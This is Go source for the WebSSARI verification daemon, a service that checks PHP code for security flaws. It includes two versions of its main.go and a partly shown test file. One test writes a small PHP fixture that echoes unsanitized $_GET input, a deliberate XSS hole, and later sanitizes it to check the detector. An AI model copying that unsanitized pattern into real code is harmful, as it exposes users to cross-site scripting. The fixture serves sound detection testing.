//	GET  /metrics             Prometheus exposition
//
// Every JSON response carries "schema": "v1"; request bodies with
// unknown fields are rejected with 400.
//
// On SIGTERM or SIGINT the daemon stops accepting work (503), lets
// queued and in-flight jobs finish (up to -grace), and exits 0 on a
// clean drain.
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/signal"
	"syscall"
	"time"

	"webssari/internal/buildinfo"
	"webssari/internal/service"
	"webssari/internal/store"
	"webssari/internal/telemetry"
)

func main() {
	os.Exit(run(os.Args[1:], nil))
}

// run is the testable daemon body. When ready is non-nil the bound API
// address is sent on it once the listener is up (integration tests bind
// ":0" and need the real port).
func run(args []string, ready chan<- string) int {
	fs := flag.NewFlagSet("webssarid", flag.ContinueOnError)
	var (
		addr        = fs.String("addr", ":8722", "API listen address (\":0\" picks a free port)")
		storeDir    = fs.String("store", "", "persistent result store directory (\"\" disables)")
		storeMax    = fs.Int64("store-max-bytes", 0, "store size budget before LRU GC (0 = 256 MiB, negative = unbounded)")
		queueSize   = fs.Int("queue", service.DefaultQueueSize, "submission queue depth (full queue answers 429)")
		workers     = fs.Int("workers", 0, "concurrently running jobs (0 = GOMAXPROCS)")
		jobs        = fs.Int("j", 0, "per-job verification parallelism (0 = engine default)")
		timeout     = fs.Duration("timeout", 0, "wall-clock deadline per verification unit (0 = none)")
		maxConf     = fs.Uint64("max-conflicts", 0, "SAT conflict budget per solver call (0 = unlimited)")
		noDirs      = fs.Bool("no-dirs", false, "reject directory submissions")
		incr        = fs.Bool("incremental", false, "default directory jobs to delta re-verification (requires -store)")
		watchIvl    = fs.Duration("watch-interval", service.DefaultWatchInterval, "snapshot poll interval for watch-mode jobs")
		grace       = fs.Duration("grace", 30*time.Second, "shutdown grace period for draining jobs")
		metricsAddr = fs.String("metrics-addr", "", "serve /metrics, /debug/vars, /debug/pprof on a second address")
		version     = fs.Bool("version", false, "print version and exit")
	)
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *version {
		fmt.Println(buildinfo.Version("webssarid"))
		return 0
	}
	if fs.NArg() != 0 {
		fmt.Fprintln(os.Stderr, "webssarid: unexpected arguments (the daemon takes submissions over HTTP)")
		return 2
	}
	if *incr && *storeDir == "" {
		fmt.Fprintln(os.Stderr, "webssarid: -incremental requires -store (the dependency graph lives in the result store)")
		return 2
	}

	tel := telemetry.New()
	var st *store.Store
	if *storeDir != "" {
		var err error
		st, err = store.Open(*storeDir, store.Options{MaxBytes: *storeMax})
		if err != nil {
			fmt.Fprintf(os.Stderr, "webssarid: opening store: %v\n", err)
			return 2
		}
		fmt.Fprintf(os.Stderr, "webssarid: result store at %s (%d entr(ies) resident)\n",
			*storeDir, st.Stats().Entries)
	}
	if *metricsAddr != "" {
		msrv, err := telemetry.Serve(*metricsAddr, tel.Metrics)
		if err != nil {
			fmt.Fprintf(os.Stderr, "webssarid: %v\n", err)
			return 2
		}
		defer msrv.Close()
		fmt.Fprintf(os.Stderr, "webssarid: metrics served at http://%s/metrics\n", msrv.Addr)
	}

	svc := service.New(service.Config{
		Store:          st,
		Telemetry:      tel,
		Workers:        *workers,
		JobParallelism: *jobs,
		QueueSize:      *queueSize,
		JobDeadline:    *timeout,
		MaxConflicts:   *maxConf,
		DisableDirs:    *noDirs,
		Incremental:    *incr,
		WatchInterval:  *watchIvl,
	})

	ln, err := net.Listen("tcp", *addr)
	if err != nil {
		fmt.Fprintf(os.Stderr, "webssarid: listen %s: %v\n", *addr, err)
		return 2
	}
	srv := &http.Server{Handler: svc.Handler()}
	fmt.Fprintf(os.Stderr, "webssarid: serving on http://%s\n", ln.Addr())
	if ready != nil {
		ready <- ln.Addr().String()
	}

	serveErr := make(chan error, 1)
	go func() { serveErr <- srv.Serve(ln) }()

	sigs := make(chan os.Signal, 1)
	signal.Notify(sigs, syscall.SIGTERM, os.Interrupt)
	defer signal.Stop(sigs)

	select {
	case sig := <-sigs:
		fmt.Fprintf(os.Stderr, "webssarid: %v: draining (grace %s)\n", sig, *grace)
	case err := <-serveErr:
		fmt.Fprintf(os.Stderr, "webssarid: serve: %v\n", err)
		return 2
	}

	// Drain: stop accepting (503 via the service, connection refusal via
	// the listener shutdown), finish accepted jobs, then exit.
	ctx, cancel := context.WithTimeout(context.Background(), *grace)
	defer cancel()
	drained := svc.Drain(ctx)
	if err := srv.Shutdown(ctx); err != nil && !errors.Is(err, context.DeadlineExceeded) {
		fmt.Fprintf(os.Stderr, "webssarid: shutdown: %v\n", err)
	}
	if drained != nil {
		fmt.Fprintf(os.Stderr, "webssarid: drain incomplete after %s: %v\n", *grace, drained)
		return 2
	}
	fmt.Fprintln(os.Stderr, "webssarid: drained cleanly")
	return 0
}
