// Command webssarid is the WebSSARI verification service: the engine of
// cmd/webssari behind an HTTP/JSON API, with a bounded job queue, NDJSON
// result streaming, and an optional persistent result store so repeated
// submissions of unchanged code answer from disk across restarts.
//
// Usage:
//
//	webssarid [flags]
//
// Flags:
//
//	-addr A            listen address for the API (default :8722; ":0"
//	                   picks a free port, printed to stderr)
//	-store DIR         persistent result store directory ("" disables)
//	-store-max-bytes N store size budget before LRU GC (0 = default
//	                   256 MiB, negative = unbounded)
//	-queue N           submission queue depth; a full queue answers 429
//	-workers N         concurrently running jobs (0 = GOMAXPROCS)
//	-j N               per-job verification parallelism (0 = engine default)
//	-timeout D         wall-clock deadline per verification unit
//	-max-conflicts N   SAT conflict budget per solver call (0 = unlimited)
//	-solver-mode M     default solver dispatch mode for jobs:
//	                   per-assert|shared|portfolio (per-job "solver"
//	                   fields override it)
//	-portfolio N       default portfolio lane count raced per hard
//	                   assertion (0 = engine default)
//	-no-dirs           reject directory submissions (clients may then only
//	                   POST source text)
//	-incremental       default directory jobs to delta re-verification via
//	                   the persistent dependency graph (requires -store;
//	                   per-job "incremental" overrides this)
//	-watch-interval D  snapshot poll interval for watch-mode directory
//	                   jobs (default 2s)
//	-grace D           shutdown grace period for draining jobs (default 30s)
//	-metrics-addr A    serve /metrics, /debug/vars, /debug/pprof,
//	                   /debug/events on a second address (the API itself
//	                   always has /metrics and /debug/events)
//	-log-level L       structured log level: debug|info|warn|error
//	                   (default info)
//	-log-format F      structured log encoding: text|json (default text)
//	-slo D             latency objective for /v1 requests; slower requests
//	                   count in webssari_slo_breaches_total by route
//	                   (default 1s, 0 disables)
//	-slow-file D       log a warning (with trace ID) for any file whose
//	                   verification exceeds this (default 10s, 0 disables)
//	-policy P          default security policy: a built-in name
//	                   (default|xss-context|ssrf) or a policy JSON file;
//	                   per-job "policy"/"policy_json" fields override it
//	-version           print version and exit
//
// Cluster flags — a daemon is standalone by default; -coord makes it a
// coordinator, -join makes it a worker:
//
//	-coord             coordinator mode: accept worker registrations at
//	                   /v1/cluster, shard each job's files across live
//	                   workers (consistent hashing over store content
//	                   keys), and serve -store to the cluster at
//	                   /v1/store. With zero live workers jobs degrade to
//	                   local execution — they never fail for lack of a
//	                   cluster.
//	-join URL          worker mode: register with the coordinator at URL,
//	                   heartbeat, and deregister on shutdown
//	-advertise URL     base URL the coordinator should dispatch to
//	                   (default: http://<bound addr>; required when the
//	                   bound address is not reachable from the
//	                   coordinator)
//	-worker-name S     optional worker label in /v1/cluster status
//	-heartbeat D       heartbeat interval a coordinator expects (default 2s)
//	-heartbeat-misses N missed heartbeats before eviction (default 3)
//	-store-remote URL  use the coordinator's shared result store at URL
//	                   instead of a local -store (workers; typically the
//	                   -join URL)
//
// Workers must run with the same analysis options as the coordinator —
// registration carries a configuration fingerprint and mismatches are
// rejected — so that clustered verdicts stay byte-identical to local
// ones.
//
// API (JSON unless noted):
//
//	POST /v1/files            {"name","source"[,"dir","policy","policy_json","solver"]} → 202 {job,status,result,stream}
//	POST /v1/dirs             {"dir"[,"incremental","watch","watch_interval_ms","policy","policy_json","solver"]} → 202
//	GET  /v1/jobs             recent jobs, newest first
//	GET  /v1/jobs/{id}        one job's status
//	DELETE /v1/jobs/{id}      cancel a queued, running, or watch job
//	GET  /v1/jobs/{id}/result finished report (409 while running; ?text=1
//	                          for the human rendering of a file job)
//	GET  /v1/jobs/{id}/stream NDJSON, one report per file as it completes
//	                          (watch jobs add one summary line per round)
//	GET  /v1/jobs/{id}/trace  Chrome/Perfetto trace of the job (clustered
//	                          jobs include stitched worker spans)
//	GET  /v1/version          build and schema version
//	GET  /healthz             liveness, queue occupancy, version, uptime
//	GET  /metrics             Prometheus exposition
//	GET  /debug/events        recent structured log events (flight recorder)
//
// Every job carries a distributed trace ID (the submitter's W3C
// traceparent header, or minted at admission): all spans and log lines
// for the job carry it, on the coordinator and on every worker it
// dispatches to.
//
// Every JSON response carries "schema": "v1"; request bodies with
// unknown fields are rejected with 400.
//
// On SIGTERM or SIGINT the daemon stops accepting work (503), lets
// queued and in-flight jobs finish (up to -grace), and exits 0 on a
// clean drain.
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/signal"
	"syscall"
	"time"

	"webssari"
	"webssari/internal/buildinfo"
	"webssari/internal/cluster"
	"webssari/internal/service"
	"webssari/internal/service/api"
	"webssari/internal/store"
	"webssari/internal/telemetry"
)

func main() {
	os.Exit(run(os.Args[1:], nil))
}

// run is the testable daemon body. When ready is non-nil the bound API
// address is sent on it once the listener is up (integration tests bind
// ":0" and need the real port).
func run(args []string, ready chan<- string) int {
	fs := flag.NewFlagSet("webssarid", flag.ContinueOnError)
	var (
		addr        = fs.String("addr", ":8722", "API listen address (\":0\" picks a free port)")
		storeDir    = fs.String("store", "", "persistent result store directory (\"\" disables)")
		storeMax    = fs.Int64("store-max-bytes", 0, "store size budget before LRU GC (0 = 256 MiB, negative = unbounded)")
		queueSize   = fs.Int("queue", service.DefaultQueueSize, "submission queue depth (full queue answers 429)")
		workers     = fs.Int("workers", 0, "concurrently running jobs (0 = GOMAXPROCS)")
		jobs        = fs.Int("j", 0, "per-job verification parallelism (0 = engine default)")
		timeout     = fs.Duration("timeout", 0, "wall-clock deadline per verification unit (0 = none)")
		maxConf     = fs.Uint64("max-conflicts", 0, "SAT conflict budget per solver call (0 = unlimited)")
		solverMode  = fs.String("solver-mode", "", "default solver dispatch mode: per-assert|shared|portfolio (per-job solver spec overrides)")
		portfolio   = fs.Int("portfolio", 0, "default portfolio lane count raced per hard assertion (0 = engine default)")
		noDirs      = fs.Bool("no-dirs", false, "reject directory submissions")
		incr        = fs.Bool("incremental", false, "default directory jobs to delta re-verification (requires -store)")
		watchIvl    = fs.Duration("watch-interval", service.DefaultWatchInterval, "snapshot poll interval for watch-mode jobs")
		grace       = fs.Duration("grace", 30*time.Second, "shutdown grace period for draining jobs")
		metricsAddr = fs.String("metrics-addr", "", "serve /metrics, /debug/vars, /debug/pprof on a second address")
		logLevel    = fs.String("log-level", "info", "structured log level: debug|info|warn|error")
		logFormat   = fs.String("log-format", "text", "structured log encoding: text|json")
		slo         = fs.Duration("slo", time.Second, "latency objective for /v1 requests (0 disables breach counting)")
		slowFile    = fs.Duration("slow-file", 10*time.Second, "warn about files slower than this (0 disables)")
		policyFlag  = fs.String("policy", "", "default security policy: a built-in name or a policy JSON file (per-job \"policy\" overrides)")
		version     = fs.Bool("version", false, "print version and exit")

		coord       = fs.Bool("coord", false, "coordinator mode: accept worker registrations and shard jobs across them")
		joinURL     = fs.String("join", "", "worker mode: register with the coordinator at this URL")
		advertise   = fs.String("advertise", "", "base URL the coordinator dispatches to (default: the bound address)")
		workerName  = fs.String("worker-name", "", "worker label shown in cluster status")
		heartbeat   = fs.Duration("heartbeat", cluster.DefaultHeartbeatInterval, "cluster heartbeat interval")
		hbMisses    = fs.Int("heartbeat-misses", cluster.DefaultHeartbeatMisses, "missed heartbeats before a worker is evicted")
		storeRemote = fs.String("store-remote", "", "use the shared result store served by the coordinator at this URL")
	)
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *version {
		fmt.Println(buildinfo.Version("webssarid"))
		return 0
	}
	if fs.NArg() != 0 {
		fmt.Fprintln(os.Stderr, "webssarid: unexpected arguments (the daemon takes submissions over HTTP)")
		return 2
	}
	if *incr && *storeDir == "" && *storeRemote == "" {
		fmt.Fprintln(os.Stderr, "webssarid: -incremental requires -store or -store-remote (the dependency graph lives in the result store)")
		return 2
	}
	if *coord && *joinURL != "" {
		fmt.Fprintln(os.Stderr, "webssarid: -coord and -join are mutually exclusive (a daemon is a coordinator or a worker, not both)")
		return 2
	}
	if *storeRemote != "" && *storeDir != "" {
		fmt.Fprintln(os.Stderr, "webssarid: -store and -store-remote are mutually exclusive")
		return 2
	}

	tel := telemetry.New()
	lvl, err := telemetry.ParseLogLevel(*logLevel)
	if err != nil {
		fmt.Fprintf(os.Stderr, "webssarid: %v\n", err)
		return 2
	}
	logger, err := telemetry.NewLogger(os.Stderr, lvl, *logFormat, telemetry.DefaultFlightRecorderSize)
	if err != nil {
		fmt.Fprintf(os.Stderr, "webssarid: %v\n", err)
		return 2
	}
	tel.Logs = logger.Recorder()
	var st *store.Store
	if *storeDir != "" {
		var err error
		st, err = store.Open(*storeDir, store.Options{MaxBytes: *storeMax})
		if err != nil {
			fmt.Fprintf(os.Stderr, "webssarid: opening store: %v\n", err)
			return 2
		}
		fmt.Fprintf(os.Stderr, "webssarid: result store at %s (%d entr(ies) resident)\n",
			*storeDir, st.Stats().Entries)
	}
	var remoteStore *cluster.RemoteStore
	if *storeRemote != "" {
		remoteStore = cluster.NewRemoteStore(*storeRemote, nil)
		fmt.Fprintf(os.Stderr, "webssarid: shared result store via %s\n", *storeRemote)
	}
	if *metricsAddr != "" {
		msrv, err := telemetry.Serve(*metricsAddr, tel.Metrics, tel.Logs)
		if err != nil {
			fmt.Fprintf(os.Stderr, "webssarid: %v\n", err)
			return 2
		}
		defer msrv.Close()
		fmt.Fprintf(os.Stderr, "webssarid: metrics served at http://%s/metrics\n", msrv.Addr)
	}

	policyName, policyJSON, err := resolvePolicy(*policyFlag)
	if err != nil {
		fmt.Fprintf(os.Stderr, "webssarid: %v\n", err)
		return 2
	}

	// The daemon-default solver configuration; per-job solver specs
	// overlay it field-wise. Validated at startup so a typo'd mode fails
	// here instead of on the first submission.
	solverCfg := webssari.SolverConfig{
		Mode:      webssari.SolverMode(*solverMode),
		Portfolio: *portfolio,
	}
	if solverCfg != (webssari.SolverConfig{}) {
		if _, err := webssari.ExportConfig(webssari.WithSolverConfig(solverCfg)); err != nil {
			fmt.Fprintf(os.Stderr, "webssarid: %v\n", err)
			return 2
		}
	}

	// The verdict-shaping daemon configuration, fingerprinted so cluster
	// registration can reject a worker whose options differ from the
	// coordinator's (mismatched options would break verdict identity).
	// The policy is part of it: a worker running a different default
	// policy must not join. Fingerprint itself erases the verdict-neutral
	// solver fields (mode, portfolio width, warm start), so passing the
	// full solver config here is safe: workers may race portfolios while
	// the coordinator runs per-assert and still fingerprint identically.
	fingerprint := cluster.Fingerprint(webssari.WithConfig(webssari.Config{
		Policy:       policyName,
		PolicyJSON:   policyJSON,
		Deadline:     *timeout,
		MaxConflicts: *maxConf,
		Parallelism:  *jobs,
		Solver:       solverCfg,
	}))

	svcCfg := service.Config{
		Policy:           policyName,
		PolicyJSON:       policyJSON,
		Store:            st,
		Telemetry:        tel,
		Logger:           logger,
		LatencyObjective: *slo,
		SlowFile:         *slowFile,
		Workers:          *workers,
		JobParallelism:   *jobs,
		QueueSize:        *queueSize,
		JobDeadline:      *timeout,
		MaxConflicts:     *maxConf,
		Solver:           solverCfg,
		DisableDirs:      *noDirs,
		Incremental:      *incr,
		WatchInterval:    *watchIvl,
	}
	if remoteStore != nil {
		svcCfg.StoreBackend = remoteStore
	}

	var coordinator *cluster.Coordinator
	var svc *service.Server
	if *coord {
		ccfg := cluster.Config{
			HeartbeatInterval: *heartbeat,
			HeartbeatMisses:   *hbMisses,
			Fingerprint:       fingerprint,
			Telemetry:         tel,
			Logger:            logger,
			// The service is assembled just below; by the time any
			// /v1/cluster request arrives it is non-nil.
			JobCounts: func() map[string]int64 {
				if svc == nil {
					return nil
				}
				return svc.JobsByPolicy()
			},
		}
		if st != nil {
			ccfg.Store = st
		}
		coordinator = cluster.New(ccfg)
		defer coordinator.Close()
		svcCfg.Runner = coordinator
		fmt.Fprintf(os.Stderr, "webssarid: coordinator mode (heartbeat %s, eviction after %d misses)\n",
			*heartbeat, *hbMisses)
	}

	svc = service.New(svcCfg)

	ln, err := net.Listen("tcp", *addr)
	if err != nil {
		fmt.Fprintf(os.Stderr, "webssarid: listen %s: %v\n", *addr, err)
		return 2
	}
	handler := svc.Handler()
	if coordinator != nil {
		// Cluster and shared-store endpoints ride beside the service API.
		outer := http.NewServeMux()
		ch := coordinator.Handler()
		outer.Handle("/v1/cluster", ch)
		outer.Handle("/v1/cluster/", ch)
		outer.Handle("/v1/store/", ch)
		outer.Handle("/", handler)
		handler = outer
	}
	srv := &http.Server{Handler: handler}
	fmt.Fprintf(os.Stderr, "webssarid: serving on http://%s\n", ln.Addr())
	if ready != nil {
		ready <- ln.Addr().String()
	}

	var agent *cluster.Agent
	if *joinURL != "" {
		adv := *advertise
		if adv == "" {
			adv = "http://" + ln.Addr().String()
		}
		jctx, jcancel := context.WithTimeout(context.Background(), 30*time.Second)
		agent, err = cluster.Join(jctx, *joinURL, api.RegisterWorkerRequest{
			Addr:        adv,
			Name:        *workerName,
			Fingerprint: fingerprint,
		}, nil)
		jcancel()
		if err != nil {
			fmt.Fprintf(os.Stderr, "webssarid: %v\n", err)
			return 2
		}
		fmt.Fprintf(os.Stderr, "webssarid: joined cluster at %s as %s (advertising %s)\n",
			*joinURL, agent.ID(), adv)
	}

	serveErr := make(chan error, 1)
	go func() { serveErr <- srv.Serve(ln) }()

	sigs := make(chan os.Signal, 1)
	signal.Notify(sigs, syscall.SIGTERM, os.Interrupt)
	defer signal.Stop(sigs)

	select {
	case sig := <-sigs:
		fmt.Fprintf(os.Stderr, "webssarid: %v: draining (grace %s)\n", sig, *grace)
	case err := <-serveErr:
		fmt.Fprintf(os.Stderr, "webssarid: serve: %v\n", err)
		return 2
	}

	// Drain: leave the cluster first (so the coordinator reroutes new
	// work instead of dispatching into the drain), then stop accepting
	// (503 via the service, connection refusal via the listener
	// shutdown), finish accepted jobs, and exit.
	ctx, cancel := context.WithTimeout(context.Background(), *grace)
	defer cancel()
	if agent != nil {
		if err := agent.Close(ctx); err != nil {
			fmt.Fprintf(os.Stderr, "webssarid: leaving cluster: %v\n", err)
		} else {
			fmt.Fprintln(os.Stderr, "webssarid: left cluster")
		}
	}
	drained := svc.Drain(ctx)
	if err := srv.Shutdown(ctx); err != nil && !errors.Is(err, context.DeadlineExceeded) {
		fmt.Fprintf(os.Stderr, "webssarid: shutdown: %v\n", err)
	}
	if drained != nil {
		fmt.Fprintf(os.Stderr, "webssarid: drain incomplete after %s: %v\n", *grace, drained)
		return 2
	}
	fmt.Fprintln(os.Stderr, "webssarid: drained cleanly")
	return 0
}

// resolvePolicy turns the -policy flag into the Config policy fields: a
// readable file is loaded as a policy JSON declaration, anything else
// must be a built-in policy name. Either form is validated here so a bad
// policy fails startup instead of the first job.
func resolvePolicy(arg string) (name, policyJSON string, err error) {
	if arg == "" {
		return "", "", nil
	}
	if data, rerr := os.ReadFile(arg); rerr == nil {
		policyJSON = string(data)
	} else {
		name = arg
	}
	if _, err := webssari.ExportConfig(webssari.WithConfig(webssari.Config{
		Policy: name, PolicyJSON: policyJSON,
	})); err != nil {
		return "", "", fmt.Errorf("-policy %s: %w", arg, err)
	}
	return name, policyJSON, nil
}
