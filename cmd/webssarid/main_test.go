package main

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"webssari"
	"webssari/client"
)

// startDaemon runs the daemon body in-process on an ephemeral port and
// returns a client for it and the exit-code channel.
func startDaemon(t *testing.T, extra ...string) (*client.Client, string, <-chan int) {
	t.Helper()
	ready := make(chan string, 1)
	exit := make(chan int, 1)
	args := append([]string{"-addr", "127.0.0.1:0"}, extra...)
	go func() { exit <- run(args, ready) }()
	select {
	case addr := <-ready:
		base := "http://" + addr
		return client.New(base, client.WithPollInterval(20*time.Millisecond)), base, exit
	case code := <-exit:
		t.Fatalf("daemon exited before binding: %d", code)
	case <-time.After(10 * time.Second):
		t.Fatal("daemon did not bind")
	}
	return nil, "", nil
}

// submitDirAndWait submits a directory job and waits for it to finish.
func submitDirAndWait(t *testing.T, c *client.Client, dir string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	sub, err := c.SubmitDir(ctx, client.SubmitDirRequest{Dir: dir})
	if err != nil {
		t.Fatalf("submit dir: %v", err)
	}
	if sub.SchemaV != client.Schema {
		t.Fatalf("submit response schema = %q, want %q", sub.SchemaV, client.Schema)
	}
	if _, err := c.Wait(ctx, sub.Job); err != nil {
		t.Fatalf("job %s: %v", sub.Job, err)
	}
	return sub.Job
}

// projectJSON fetches a finished dir job's report as a decoded JSON tree
// (the client's typed accessor, re-marshalled, so comparisons see the
// wire shape).
func projectJSON(t *testing.T, c *client.Client, id string) map[string]any {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	pr, err := c.DirResult(ctx, id)
	if err != nil {
		t.Fatalf("result %s: %v", id, err)
	}
	data, err := json.Marshal(pr)
	if err != nil {
		t.Fatal(err)
	}
	var tree map[string]any
	if err := json.Unmarshal(data, &tree); err != nil {
		t.Fatal(err)
	}
	return tree
}

// stripProfiles removes every nondeterministic "profile" object (and the
// run-relative store/cache counters) from a decoded report tree.
func stripProfiles(v any) any {
	switch node := v.(type) {
	case map[string]any:
		delete(node, "profile")
		delete(node, "store_hits")
		delete(node, "store_misses")
		delete(node, "cache_hits")
		delete(node, "cache_misses")
		for k, child := range node {
			node[k] = stripProfiles(child)
		}
	case []any:
		for i, child := range node {
			node[i] = stripProfiles(child)
		}
	}
	return v
}

// TestDaemonEndToEnd is the acceptance path: the daemon verifies the
// examples/php corpus twice against a persistent store; the second run
// is served from disk (visible on /metrics) with byte-identical
// verdicts, and SIGTERM drains in-flight work before exit.
func TestDaemonEndToEnd(t *testing.T) {
	if testing.Short() {
		t.Skip("end-to-end daemon test")
	}
	storeDir := t.TempDir()
	c, base, exit := startDaemon(t, "-store", storeDir, "-grace", "60s")
	examples, err := filepath.Abs(filepath.Join("..", "..", "examples", "php"))
	if err != nil {
		t.Fatal(err)
	}

	id1 := submitDirAndWait(t, c, examples)
	id2 := submitDirAndWait(t, c, examples)

	// The corpus has deliberate vulnerabilities: both runs say unsafe.
	rep1 := projectJSON(t, c, id1)
	rep2 := projectJSON(t, c, id2)
	if rep1["vulnerable_files"].(float64) == 0 {
		t.Fatalf("examples corpus reported no vulnerable files: %v", rep1)
	}

	// Byte-identical verdicts once profiles are stripped.
	j1, err := json.Marshal(stripProfiles(rep1))
	if err != nil {
		t.Fatal(err)
	}
	j2, err := json.Marshal(stripProfiles(rep2))
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(j1, j2) {
		t.Fatalf("store-served report diverged from computed one:\n%s\nvs\n%s", j1, j2)
	}

	// The second run was served from the persistent store.
	hits := scrapeMetric(t, base+"/metrics", "webssari_store_hits_total")
	if hits < 1 {
		t.Fatalf("store hits after resubmission = %d, want >= 1", hits)
	}

	// SIGTERM with a job in flight: the daemon drains it and exits 0.
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if _, err := c.SubmitDir(ctx, client.SubmitDirRequest{Dir: examples}); err != nil {
		t.Fatalf("pre-shutdown submit: %v", err)
	}
	if err := syscall.Kill(syscall.Getpid(), syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	select {
	case code := <-exit:
		if code != 0 {
			t.Fatalf("daemon exited %d after SIGTERM, want 0 (clean drain)", code)
		}
	case <-time.After(90 * time.Second):
		t.Fatal("daemon did not exit after SIGTERM")
	}
}

// scrapeMetric fetches a Prometheus page and returns one series' value.
func scrapeMetric(t *testing.T, url, name string) int64 {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	page, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	re := regexp.MustCompile(`(?m)^` + regexp.QuoteMeta(name) + ` (\d+)$`)
	m := re.FindSubmatch(page)
	if m == nil {
		t.Fatalf("metric %s absent from %s:\n%s", name, url, page)
	}
	v, err := strconv.ParseInt(string(m[1]), 10, 64)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

// TestDaemonStorePersistsAcrossRestart restarts the daemon over the same
// store root: the warm instance answers from disk.
func TestDaemonStorePersistsAcrossRestart(t *testing.T) {
	if testing.Short() {
		t.Skip("end-to-end daemon test")
	}
	storeDir := t.TempDir()
	examples, err := filepath.Abs(filepath.Join("..", "..", "examples", "php"))
	if err != nil {
		t.Fatal(err)
	}

	c, _, exit := startDaemon(t, "-store", storeDir)
	submitDirAndWait(t, c, examples)
	if err := syscall.Kill(syscall.Getpid(), syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	if code := <-exit; code != 0 {
		t.Fatalf("first daemon exited %d", code)
	}

	c, base, exit := startDaemon(t, "-store", storeDir)
	submitDirAndWait(t, c, examples)
	if hits := scrapeMetric(t, base+"/metrics", "webssari_store_hits_total"); hits < 1 {
		t.Fatalf("restarted daemon store hits = %d, want >= 1", hits)
	}
	if err := syscall.Kill(syscall.Getpid(), syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	if code := <-exit; code != 0 {
		t.Fatalf("second daemon exited %d", code)
	}
}

// TestDaemonIncrementalAndWatch exercises the delta path end to end
// through the daemon: an -incremental daemon re-verifies an unchanged
// project entirely from the dependency graph, a watch job picks up an
// edit and re-verifies within its poll interval, and DELETE ends the
// watch cleanly with the last round's verdict.
func TestDaemonIncrementalAndWatch(t *testing.T) {
	if testing.Short() {
		t.Skip("end-to-end daemon test")
	}
	dir := t.TempDir()
	write := func(name, src string) {
		t.Helper()
		if err := os.WriteFile(filepath.Join(dir, name), []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("lib.php", "<?php $greeting = $_GET['q']; ?>\n")
	write("page.php", "<?php include 'lib.php'; echo $greeting; ?>\n")

	c, base, exit := startDaemon(t,
		"-store", t.TempDir(), "-incremental", "-watch-interval", "50ms", "-grace", "60s")

	// Cold then warm one-shot runs. The counters are cumulative: the cold
	// full run plans both files, the warm run plans nothing and serves
	// both from the graph.
	submitDirAndWait(t, c, dir)
	id2 := submitDirAndWait(t, c, dir)
	if planned := scrapeMetric(t, base+"/metrics", "webssari_incremental_planned_total"); planned != 2 {
		t.Fatalf("cold+warm runs planned %d file(s) total, want 2 (cold run only)", planned)
	}
	if skipped := scrapeMetric(t, base+"/metrics", "webssari_incremental_skipped_total"); skipped != 2 {
		t.Fatalf("warm re-verification skipped %d file(s), want 2", skipped)
	}
	if full := scrapeMetric(t, base+"/metrics", "webssari_incremental_full_runs_total"); full != 1 {
		t.Fatalf("full-run counter = %d, want 1 (the cold run)", full)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	pr, err := c.DirResult(ctx, id2)
	if err != nil {
		t.Fatal(err)
	}
	if pr.Verdict() != webssari.VerdictUnsafe {
		t.Fatalf("graph-served project verdict = %q, want unsafe", pr.Verdict())
	}

	// Watch: first round streams 2 file lines + 1 summary; an edit that
	// breaks page.php's sink triggers a second round re-verifying only
	// the dependents of lib.php (both files here — page includes lib).
	sub, err := c.SubmitDir(ctx, client.SubmitDirRequest{Dir: dir, Watch: true})
	if err != nil {
		t.Fatal(err)
	}
	type round struct{ files, summaries int }
	lines := make(chan json.RawMessage, 64)
	streamDone := make(chan error, 1)
	go func() {
		streamDone <- c.Stream(ctx, sub.Job, func(line json.RawMessage) error {
			lines <- line
			return nil
		})
	}()
	collectRound := func() round {
		t.Helper()
		var r round
		for {
			select {
			case line := <-lines:
				if strings.Contains(string(line), `"vulnerable_files"`) {
					r.summaries++
					return r
				}
				r.files++
			case <-time.After(30 * time.Second):
				t.Fatalf("watch round incomplete: %+v", r)
			}
		}
	}
	first := collectRound()
	if first.files != 2 || first.summaries != 1 {
		t.Fatalf("watch round 1 streamed %+v, want 2 files + 1 summary", first)
	}

	// Sanitize the include: the next round must see the change and flip
	// the verdict to safe. Content length changes, so even a coarse mtime
	// cannot mask the edit.
	write("lib.php", "<?php $greeting = htmlspecialchars($_GET['q']); ?>\n")
	second := collectRound()
	if second.summaries != 1 {
		t.Fatalf("watch round 2 streamed %+v, want a summary line", second)
	}

	st, err := c.Cancel(ctx, sub.Job)
	if err != nil {
		t.Fatal(err)
	}
	if !st.Watch {
		t.Fatalf("job status watch = false, want true")
	}
	final, err := c.Wait(ctx, sub.Job)
	if err != nil {
		t.Fatalf("watch job after cancel: %v", err)
	}
	if final.State != client.StateDone {
		t.Fatalf("cancelled watch job state = %q, want done", final.State)
	}
	if final.Rounds < 2 {
		t.Fatalf("watch job rounds = %d, want >= 2", final.Rounds)
	}
	if final.Verdict != webssari.VerdictSafe {
		t.Fatalf("verdict after sanitizing edit = %q, want safe", final.Verdict)
	}
	<-streamDone

	if err := syscall.Kill(syscall.Getpid(), syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	if code := <-exit; code != 0 {
		t.Fatalf("daemon exited %d after SIGTERM, want 0", code)
	}
}

// TestVersionFlag checks -version prints a banner and exits 0.
func TestVersionFlag(t *testing.T) {
	if code := run([]string{"-version"}, nil); code != 0 {
		t.Fatalf("-version exited %d", code)
	}
}

// TestRejectsPositionalArgs pins the usage contract.
func TestRejectsPositionalArgs(t *testing.T) {
